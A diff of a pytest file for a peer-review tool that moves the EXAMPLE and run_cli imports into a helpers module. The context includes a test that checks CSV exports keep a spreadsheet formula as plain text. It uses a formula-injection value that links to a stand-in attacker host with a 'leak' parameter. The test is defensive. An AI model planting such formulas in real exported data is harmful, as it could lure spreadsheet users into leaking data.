@@ -11,7 +11,7 @@ import pytest
 from peer_review.service.queries import overview, overview_csv_rows, overview_json
 from peer_review.store import db
 
-from conftest import run_cli
+from helpers import EXAMPLE, run_cli
 
 pytestmark = pytest.mark.db
 
@@ -40,8 +40,6 @@ def test_overview_of_a_planned_triad(planned):
 
 
 def test_status_exports_from_the_command_line(tmp_path):
-    from conftest import EXAMPLE
-
     env = {"PEER_REVIEW_DATABASE_URL": f"sqlite:///{tmp_path / 's.db'}"}
     assert run_cli("partnership", "load", EXAMPLE, cwd=tmp_path, env=env).returncode == 0
     empty = run_cli("status", "--json", cwd=tmp_path, env=env)
@@ -68,8 +66,6 @@ def test_tasks_as_json_for_scripts(planned):
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_stay_text(tmp_path):
-    from conftest import EXAMPLE
-
     formula = '=HYPERLINK("http://evil.example/?leak","Click me")'
     text = (
         EXAMPLE.read_text()
